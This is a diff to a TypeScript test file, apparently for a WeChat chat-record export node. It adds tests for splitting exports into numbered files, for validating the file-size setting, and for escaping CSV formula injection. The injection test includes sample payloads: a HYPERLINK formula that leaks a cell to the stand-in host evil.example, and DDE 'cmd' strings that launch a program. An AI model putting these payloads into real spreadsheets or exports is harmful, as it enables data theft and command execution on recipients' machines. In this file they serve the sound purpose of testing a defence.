@@ -107,8 +107,14 @@ function readBack(bytes: Buffer, format: string): Array<Record<string, unknown>>
 	return rows.map((r) => Object.fromEntries(header.map((h, k) => [h, r[k]])));
 }
 
+/** A cell as the CSV must hold it: a text a spreadsheet would read as a formula gets a leading '. */
+function spreadsheetText(value: unknown): string {
+	const text = String(value);
+	return ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0)) ? `'${text}` : text;
+}
+
 function asCsvText(items: Array<Record<string, unknown>>): Array<Record<string, string>> {
-	return items.map((i) => Object.fromEntries(Object.entries(i).map(([k, v]) => [k, String(v)])));
+	return items.map((i) => Object.fromEntries(Object.entries(i).map(([k, v]) => [k, spreadsheetText(v)])));
 }
 
 describe('Record: Get Many → File', () => {
@@ -143,6 +149,8 @@ describe('Record: Get Many → File', () => {
 		const fileName = `wechat-chat-records-20240301-000000-20240302-235959.${format}`;
 		expect(item.json).toEqual({
 			records: 24000,
+			part: 1,
+			parts: 1,
 			startTime: '2024-03-01T00:00:00+08:00',
 			endTime: '2024-03-02T23:59:59+08:00',
 			windows: 2,
@@ -189,6 +197,84 @@ describe('Record: Get Many → File', () => {
 		expect(text).toContain(',o_5, lead and trail ,2002,');
 		expect(text).toContain(',o_7,,2002,');
 		expect(readBack(bytes, 'csv')).toEqual(asCsvText(expectedItems()));
+	});
+
+	it.each([
+		['jsonl', 'filesystem'],
+		['csv', 'filesystem'],
+		['csv', 'default'],
+	])('%s in %s binary mode: Records per File splits the export into numbered files, one item each, the same records and requests', async (format, mode) => {
+		if (mode === 'filesystem') restore = await useFilesystemBinaryData(dir);
+		// 24,000 records in 8,000 per file: boundaries inside a page, and the last file full (no empty fourth file).
+		ctx.sb.state.records.generate({ start: T0, days: 2, perDay: 12000 });
+		const itemsRun = await runWorkflow(workflow(), sandboxCredential(ctx.sb));
+		const itemRequests = ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json);
+		ctx.sb.clearRequests();
+
+		const result = await runWorkflow(workflow({ output: 'file', fileFormat: format, recordsPerFile: 8000 }), sandboxCredential(ctx.sb));
+		expect(result.error).toBeUndefined();
+		const items = result.output(NODE);
+		const names = [1, 2, 3].map((p) => `wechat-chat-records-20240301-000000-20240302-235959-part000${p}.${format}`);
+		expect(items.map((i) => i.json)).toEqual(
+			names.map((fileName, k) => ({
+				records: 8000,
+				part: k + 1,
+				parts: 3,
+				startTime: '2024-03-01T00:00:00+08:00',
+				endTime: '2024-03-02T23:59:59+08:00',
+				windows: 2,
+				pages: 4,
+				fileName,
+				fileFormat: format,
+			})),
+		);
+		expect(items.map((i) => i.binary!.data.fileName)).toEqual(names);
+		const files = await Promise.all(items.map(async (i) => await fileBytes(i.binary!.data)));
+		const expected = expectedItems();
+		if (format === 'jsonl') {
+			expect(Buffer.concat(files).toString('utf8')).toBe(itemsRun.json(NODE).map((j) => `${JSON.stringify(j)}\n`).join(''));
+		} else {
+			// Each file stands alone: BOM, header, its own rows.
+			files.forEach((bytes, k) => expect(readBack(bytes, 'csv')).toEqual(asCsvText(expected.slice(8000 * k, 8000 * (k + 1)))));
+		}
+		expect(ctx.sb.requestsTo(MSG_LIST_PATH).map((r) => r.json)).toEqual(itemRequests);
+	});
+
+	it.each([0, 1.5, 1000001, 'many'])('refuses Records per File %p before any request', async (recordsPerFile) => {
+		const result = await runWorkflow(workflow({ output: 'file', recordsPerFile }), sandboxCredential(ctx.sb));
+		expect(result.error?.message).toBe(
+			typeof recordsPerFile === 'string'
+				? `"Records per File" must be a number, got "${recordsPerFile}"`
+				: `"Records per File" must be a whole number from 1 to 1000000, got ${recordsPerFile}`,
+		);
+		expect(ctx.sb.requestsTo(MSG_LIST_PATH)).toHaveLength(0);
+	});
+
+	it('CSV writes a text starting with = + - @ TAB or CR with a leading \' and quotes; JSON Lines keeps every text exactly', async () => {
+		const formulas = [
+			'=HYPERLINK("http://evil.example/?leak="&E2,"click")',
+			"+1+cmd|' /C calc'!A0",
+			'-1+2',
+			"@SUM(1+1)*cmd|' /C calc'!A0",
+			'\t=1+1',
+			'\r=1+1',
+		];
+		const plain = ['nul\u0000inside', 'cr\rlf\nboth\r\n', 'say "hi", twice', '😀 你好', 'line\u2028sep', '', ' =1', 'a=b'];
+		const texts = [...formulas, ...plain];
+		ctx.sb.state.records.add(texts.map((text, i) => ({ time: T0 + 60 + i, worker: 'kf1@sandbox_oa', openid: `o_${i}`, opercode: 2003, text })));
+		const csv = await runWorkflow(workflow({ output: 'file', fileFormat: 'csv' }), sandboxCredential(ctx.sb));
+		const csvText = (await fileBytes(csv.output(NODE)[0].binary!.data)).toString('utf8');
+		for (const [i, text] of formulas.entries()) {
+			expect(csvText).toContain(`,o_${i},"'${text.replace(/"/g, '""')}",2003,`);
+		}
+		const rows = readBack(await fileBytes(csv.output(NODE)[0].binary!.data), 'csv');
+		expect(rows.map((r) => r.text)).toEqual([...formulas.map((t) => `'${t}`), ...plain]);
+		expect(rows).toEqual(asCsvText(expectedItems()));
+
+		const jsonl = await runWorkflow(workflow({ output: 'file' }), sandboxCredential(ctx.sb));
+		const lines = readBack(await fileBytes(jsonl.output(NODE)[0].binary!.data), 'jsonl');
+		expect(lines.map((l) => l.text)).toEqual(texts);
+		expect(lines).toEqual(expectedItems());
 	});
 
 	it('an empty range gives a file with no records (CSV: BOM and header only)', async () => {
